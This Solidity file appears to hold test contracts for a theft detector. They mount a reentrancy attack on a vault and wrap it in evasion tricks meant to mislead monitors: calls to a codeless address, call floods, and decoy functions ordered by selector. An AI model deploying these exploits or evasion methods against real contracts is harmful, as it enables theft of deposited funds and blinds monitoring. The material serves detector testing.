// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IVictim {
    function balanceOf(address account) external view returns (uint256);
    function deposit() external payable;
    function withdraw(uint256 amount) external;
    function totalDeposits() external view returns (uint256);
}

/// @title Takes nothing: it deposits the ether of whoever sends it, and withdraws its own. Its owner alone could never
/// make it look like a robbery; with the ether of a rich account that its code names it would.
contract Borrower {
    IVictim private immutable vault;
    address private immutable rich;

    constructor(IVictim vault_, address rich_) {
        vault = vault_;
        rich = rich_;
    }

    function arm() external payable {
        require(msg.sender == rich);
        vault.deposit{value: msg.value}();
    }

    function fire() external {
        vault.withdraw(vault.balanceOf(address(this)));
    }

    receive() external payable {}
}

/// @title Attacks as Attacker does, after something that is there to make those who watch doubt what they see.
abstract contract Evasive {
    IVictim internal immutable vault;
    uint256 private stake;

    constructor(IVictim vault_) {
        vault = vault_;
    }

    function rob() internal {
        stake = msg.value;
        vault.deposit{value: msg.value}();
        vault.withdraw(msg.value);
        (bool paid,) = msg.sender.call{value: address(this).balance}("");
        require(paid);
    }

    receive() external payable {
        uint256 amount = stake;
        if (address(vault).balance >= amount) vault.withdraw(amount);
    }
}

/// @title Calls somebody who has no code first.
contract Distractor is Evasive {
    constructor(IVictim vault_) Evasive(vault_) {}

    function attack() external payable {
        (bool done,) = address(0xdead).call(hex"00000000");
        require(done);
        rob();
    }
}

/// @title Makes more calls than can be recorded first.
contract Babbler is Evasive {
    uint256 private immutable calls;

    constructor(IVictim vault_, uint256 calls_) Evasive(vault_) {
        calls = calls_;
    }

    function attack() external payable {
        for (uint256 n = 0; n < calls; n++) vault.totalDeposits();
        rob();
    }
}

/// @title Has functions that burn gas for nothing before the one that attacks, and setters before the one that arms it.
contract Decoys is Evasive {
    uint256 private a;
    uint256 private b;
    uint256 private c;
    uint256 private d;
    bool private armed;

    constructor(IVictim vault_) Evasive(vault_) {}

    function burn(uint256 seed) private pure {
        for (uint256 n = 0; n < 8_000; n++) seed = uint256(keccak256(abi.encode(seed)));
        require(seed != 0);
    }

    // Their selectors come before those below.
    function decoy_2() external pure { burn(1); }
    function decoy_5() external pure { burn(2); }
    function setA() external { a = block.number; }
    function setB() external { b = block.number; }
    function setC() external { c = block.number; }
    function setD() external { d = block.number; }
    function arm() external { armed = true; }

    function attack() external payable {
        if (!armed) return;
        rob();
    }
}
